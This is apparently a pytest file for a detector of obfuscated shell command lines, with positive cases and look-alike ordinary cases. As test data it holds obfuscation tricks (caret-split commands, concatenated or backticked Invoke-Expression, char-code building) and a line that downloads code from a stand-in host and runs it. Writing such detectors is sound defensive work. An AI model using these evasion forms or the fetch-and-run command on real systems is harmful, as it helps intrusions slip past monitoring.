"""How a line is spelt: what nobody writes who wants to be read, and what looks like it and is ordinary."""

import pytest

from longtail.executions.odd_spelling import broken_up, oddly_cased


@pytest.mark.parametrize(
    "line",
    [
        r'"C:\Windows\system32\cmd.exe" /c w^h^o^a^m^i /priv',
        'cmd /c p^owe^rshell -c "x"',
        'cmd /c who""ami',
        'cmd /c "%ProgramData:~0,1%%ProgramData:~9,2% /c calc"',
        "powershell -c \"&('I'+'nv'+'oke-Expre'+'ssion') $x\"",
        "powershell -c I`E`X (iwr https://example.org/a)",
        "powershell -c ([char]73+[char]69+[char]88)",
    ],
)
def test_words_that_their_shell_puts_together_are_broken_up(line: str) -> None:
    assert broken_up(line)


@pytest.mark.parametrize(
    "line",
    [
        'findstr /r "^[a-z]^b" C:\\jobs\\a.txt',
        'cmd /c "dir D:\\backup ^| find ".bak" ^& echo done"',
        "cmd /c for /f \"tokens=2 delims==^,\" %i in ('wmic os get localdatetime') do echo %i",
        "cmd /c copy a.bak b_%date:~-4%%date:~3,2%%TIME:~0,2%.bak",
        'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc"",0:close")',
        "sqlcmd -Q \"select 'it''s' + 'a' from t where x = '' and y = ''\"",
        'powershell -c "Write-Output one`r`ntwo`tthree`nfour"',
        "sh -c 'echo x`date`y`hostname`z'",
        "git show HEAD^ ^main",
        "powershell -c [char]65",
    ],
)
def test_marks_that_mean_something_break_nothing_up(line: str) -> None:
    assert not broken_up(line)


def test_known_words_in_a_case_of_nobodys_are_odd_and_as_their_makers_write_them_are_not() -> None:
    assert oddly_cased("cmd /c PoWErShElL -c x")
    assert not oddly_cased("cmd /c PowerShell -ExecutionPolicy BYPASS")
